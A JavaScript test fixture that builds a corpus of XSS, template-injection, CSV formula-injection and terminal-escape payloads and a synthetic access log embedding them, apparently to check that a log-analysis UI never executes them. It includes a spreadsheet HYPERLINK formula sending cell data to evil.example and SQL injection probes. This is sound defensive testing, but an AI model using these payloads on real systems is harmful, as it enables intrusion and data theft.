// A hostile payload corpus and a native-format log that carries it in every field a page can
// show, shaped so the analysis turns it into APIs, parameters, risks, events and sensitive
// samples. Used by tests/payloads.test.mjs.
//
// Every script vector sets `window.__pwned = '<id>'` (or the parent's, from a frame) if it ever
// runs, so one flag tells whether any of them executed anywhere.

const run = id => `window.__pwned='${id}'`;

/** OWASP filter-evasion style XSS vectors, template injection and encoded variants. */
export const XSS = [
  ['script', `<script>${run('script')}</script>`],
  ['img-onerror', `<img src=x onerror="${run('img-onerror')}">`],
  ['svg-onload', `<svg onload=${run('svg-onload')}>`],
  ['svg-slash', `<svg/onload=window.__pwned=/svg-slash/.source>`],
  ['attr-double', `"><script>${run('attr-double')}</script>`],
  ['attr-single', `'><img src=x onerror=${run('attr-single')}>`],
  ['attr-unquoted', ` onmouseover=${run('attr-unquoted')} x=`],
  ['close-title', `</title><script>${run('close-title')}</script>`],
  ['close-textarea', `</textarea><script>${run('close-textarea')}</script>`],
  ['close-script', `</script><script>${run('close-script')}</script>`],
  ['comment-script', `<!--<script>${run('comment-script')}//-->`],
  ['iframe-srcdoc', `<iframe srcdoc="<script>parent.__pwned='iframe-srcdoc'</script>">`],
  ['javascript-url', `javascript:${run('javascript-url')}`],
  ['a-javascript', `<a href="javascript:${run('a-javascript')}">click</a>`],
  ['tab-javascript', `<a href="jav&#x09;ascript:${run('tab-javascript')}">x</a>`],
  ['mixed-case', `<ScRiPt>${run('mixed-case')}</sCrIpT>`],
  ['entity', `&lt;script&gt;${run('entity')}&lt;/script&gt;`],
  ['entity-img', `&#60;img src=x onerror=${run('entity-img')}&#62;`],
  ['url-encoded', `%3Cscript%3E${run('url-encoded')}%3C%2Fscript%3E`],
  ['body-onload', `<body onload=${run('body-onload')}>`],
  ['details', `<details open ontoggle=${run('details')}>`],
  ['autofocus', `<input autofocus onfocus=${run('autofocus')}>`],
  ['object', `<object data="javascript:${run('object')}"></object>`],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=javascript:${run('meta-refresh')}">`],
  ['mxss', `<math><mtext><table><mglyph><style><img src=x onerror=${run('mxss')}>`],
  ['style-close', `</style><img src=x onerror=${run('style-close')}>`],
  ['svg-animate', `<svg><animate onbegin=${run('svg-animate')} attributeName=x dur=1s>`],
  ['angular', `{{constructor.constructor('${run('angular')}')()}}`],
  ['template-literal', `\${${run('template-literal')}}`],
  ['erb', `<%= ${run('erb')} %>`],
  ['jinja', `{{ ''.__class__ }}{% print('x') %}<script>${run('jinja')}</script>`],
  ['json-break', `"};${run('json-break')};//`],
  ['line-sep', `\u2028\u2029<script>${run('line-sep')}</script>`],
];

/** CSV injection: cells a spreadsheet would run as formulas. */
export const CSV = [
  `=cmd|' /C calc'!A0`,
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
];

/** Terminal escapes: retitle the terminal, clear the screen, colour. */
export const TERMINAL = ['\x1b]0;pwned-title\x07', '\x1b[2J\x1b[H', '\x1b[31mRED\x1b[0m'];

/** Every string of the corpus. */
export const ALL = [...XSS.map(([, v]) => v), ...CSV, ...TERMINAL];

const ATTACKERS = ['198.51.100.23', '198.51.100.77', '203.0.113.66', '45.33.32.156', '185.220.101.4'];
const HOSTS = ['api.payload-shop.example.com', 'admin.payload-shop.example.com'];
/** Hostile hosts: kept when the reader accepts them, listed as rejected lines when not. */
const HOSTILE_HOSTS = [`"><svg onload=${run('host')}>.example.com`, CSV[0], `<script>${run('host2')}</script>`];
const UAS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36',
  'okhttp/4.12.0', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148'];

function phone(n) { return `138${String(10000000 + n * 7919).slice(-8)}`; }

/** A stack trace as an application server prints it, with the payload in the message. */
function stackTrace(payload) {
  return `java.lang.IllegalArgumentException: unknown sort column ${payload}\n` +
    '\tat com.example.shop.search.SearchService.sort(SearchService.java:212)\n' +
    '\tat com.example.shop.search.SearchController.search(SearchController.java:88)\n' +
    '\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)\n';
}

/**
 * The log: JSON Lines in the native format. `now` is the end of the traffic (epoch ms); it spans
 * the six hours before it so every page's default period includes it.
 */
export function hostileLog(now = Date.now()) {
  const lines = [];
  const start = now - 6 * 3600_000;
  let t = start;
  const at = () => (t += 1500);
  const push = r => lines.push(JSON.stringify({ scheme: 'https', ...r, time: new Date(at()).toISOString() }));
  const corpus = ALL;

  // 1. A credential-stuffing run: many failed logins per source, the usernames are payloads.
  for (let i = 0; i < 240; i++) {
    const user = corpus[i % corpus.length];
    push({ host: HOSTS[0], method: 'POST', path: '/api/v1/auth/login', client_ip: ATTACKERS[i % 2],
      status: 401, user_agent: i % 3 ? UAS[0] : corpus[(i + 5) % corpus.length],
      request_headers: { 'Content-Type': 'application/json', Cookie: `sid=${i}; theme=${XSS[i % XSS.length][1]}` },
      request_body: JSON.stringify({ username: user, password: 'Summer2024!' }),
      response_headers: { 'Content-Type': 'application/json', Server: 'nginx/1.18.0 ' + XSS[2][1] },
      response_body: JSON.stringify({ code: 40101, message: `invalid password for ${user}` }) });
  }
  // Successful logins of real-looking accounts, then their traffic (accounts are payloads).
  for (let i = 0; i < 60; i++) {
    const account = corpus[i % corpus.length];
    push({ host: HOSTS[0], method: 'POST', path: '/api/v1/auth/login', client_ip: `203.0.113.${10 + (i % 40)}`,
      status: 200, user_agent: UAS[i % UAS.length],
      request_headers: { 'Content-Type': 'application/json' },
      request_body: JSON.stringify({ username: account, password: 'S3cure!pass' + i }),
      response_headers: { 'Content-Type': 'application/json', 'Set-Cookie': `sid=s${i}abcdef0123456789; Path=/; HttpOnly` },
      response_body: JSON.stringify({ code: 0, user: { id: 1000 + i, nickname: account } }), account });
  }

  // 2. Injection probes: payloads in query values and names, SQLi the attack detector flags,
  // a WAF in front that names its rule after the payload.
  XSS.forEach(([id, v], i) => {
    for (let k = 0; k < 4; k++) {
      const ip = ATTACKERS[(i + k) % ATTACKERS.length];
      push({ host: HOSTS[k % 2], method: 'GET', path: '/api/v1/products/search',
        query: `q=${encodeURIComponent(v)}&${encodeURIComponent(v)}=1&sort=${encodeURIComponent("name' UNION SELECT username,password FROM users--")}`,
        client_ip: ip, status: k === 3 ? 500 : 200, user_agent: k ? UAS[k % UAS.length] : v,
        request_headers: { Referer: `javascript:${run('referer')}`, 'X-Request-Note': v },
        response_headers: { 'Content-Type': k === 3 ? 'text/plain' : 'application/json', 'X-Powered-By': `PHP/5.6.40 ${v}` },
        response_body: k === 3 ? stackTrace(v) : JSON.stringify({ total: 0, query: v, items: [] }),
        waf_action: k % 2 ? 'block' : 'monitor', waf_rule: k % 2 ? `XSS ${id} ${v}` : CSV[i % CSV.length] });
    }
    // Raw payload in a path segment (as some proxies log it) and the percent-encoded form.
    push({ host: HOSTS[0], method: 'GET', path: `/api/v1/files/${v.replace(/[\s?#]/g, '')}/download`,
      client_ip: ATTACKERS[i % ATTACKERS.length], status: 404, user_agent: UAS[0],
      response_body: `<html><body>Not found: ${v}</body></html>`, response_headers: { 'Content-Type': 'text/html' } });
    push({ host: HOSTS[1], method: 'GET', path: `/console/${encodeURIComponent(v)}/view`,
      client_ip: ATTACKERS[(i + 1) % ATTACKERS.length], status: 200, user_agent: UAS[1],
      response_headers: { 'Content-Type': 'application/json' }, response_body: '{"ok":true}' });
  });
  CSV.concat(TERMINAL).forEach((v, i) => {
    push({ host: HOSTS[0], method: 'GET', path: `/api/v1/export/${encodeURIComponent(v)}`,
      query: `format=${encodeURIComponent(v)}`, client_ip: ATTACKERS[i % ATTACKERS.length], status: 200,
      user_agent: v, response_headers: { 'Content-Type': 'text/csv' }, response_body: `${v},1,2\n`,
      account: v, waf_action: 'monitor', waf_rule: v });
  });

  // 3. Personal data: profiles whose field names and values carry payloads next to phone
  // numbers, e-mail addresses and ID card numbers (sampled, masked, traced).
  for (let n = 0; n < 120; n++) {
    const v = corpus[n % corpus.length];
    const account = corpus[(n + 3) % corpus.length];
    push({ host: HOSTS[n % 2], method: 'GET', path: `/api/v1/users/${20000 + n}/profile`,
      client_ip: `203.0.113.${10 + (n % 40)}`, status: 200, user_agent: UAS[n % UAS.length],
      request_headers: { Authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1LTEifQ.', Cookie: `password=${v}` },
      response_headers: { 'Content-Type': 'application/json', Server: `Apache/2.2.15 (CentOS) ${v}` },
      response_body: JSON.stringify({ id: 20000 + n, name: `${v} Li Na`, phone: phone(n), [v]: phone(n + 1),
        email: `user${n}@example.com`, contact: `${v} ${phone(n + 2)}`, id_card: '11010519491231002X',
        address: `No. ${n} Jianguo Road ${v}`, note: CSV[n % CSV.length] }),
      account });
  }
  // Credentials in the URL, an internal address and a leaked API description.
  for (let n = 0; n < 20; n++) {
    const v = corpus[n % corpus.length];
    push({ host: HOSTS[1], method: 'GET', path: '/api/v1/legacy/login',
      query: `user=${encodeURIComponent(v)}&password=123456&callback=${encodeURIComponent('javascript:' + run('callback'))}`,
      client_ip: `203.0.113.${100 + n}`, status: 200, user_agent: UAS[0],
      response_headers: { 'Content-Type': 'application/json' },
      response_body: JSON.stringify({ ok: true, upstream: '10.12.0.7:8080', debug: v }) });
  }
  push({ host: HOSTS[1], method: 'GET', path: '/v3/api-docs', client_ip: ATTACKERS[2], status: 200,
    user_agent: UAS[0], response_headers: { 'Content-Type': 'application/json' },
    response_body: JSON.stringify({ openapi: '3.0.1', info: { title: XSS[0][1], description: XSS[1][1] },
      paths: { [`/api/${XSS[2][1]}`]: { get: { summary: XSS[4][1] } } } }) });
  // Writes with payloads as JSON field names and values (become parameters of the API).
  XSS.forEach(([, v], i) => {
    push({ host: HOSTS[0], method: 'POST', path: '/api/v1/orders', client_ip: `203.0.113.${10 + (i % 40)}`,
      status: 201, user_agent: UAS[i % UAS.length], account: corpus[i % corpus.length],
      request_headers: { 'Content-Type': 'application/json' },
      request_body: JSON.stringify({ [v]: 1, comment: v, sku: 'RS-1001', receiver_phone: phone(i) }),
      response_headers: { 'Content-Type': 'application/json' },
      response_body: JSON.stringify({ order_id: 500 + i, comment: v }) });
  });
  // Hostile hosts.
  HOSTILE_HOSTS.forEach((host, i) => {
    for (let k = 0; k < 3; k++) {
      push({ host, method: 'GET', path: '/api/v1/ping', client_ip: ATTACKERS[i], status: 200,
        user_agent: UAS[0], response_headers: { 'Content-Type': 'application/json' }, response_body: '{"pong":true}' });
    }
  });
  return lines.join('\n') + '\n';
}
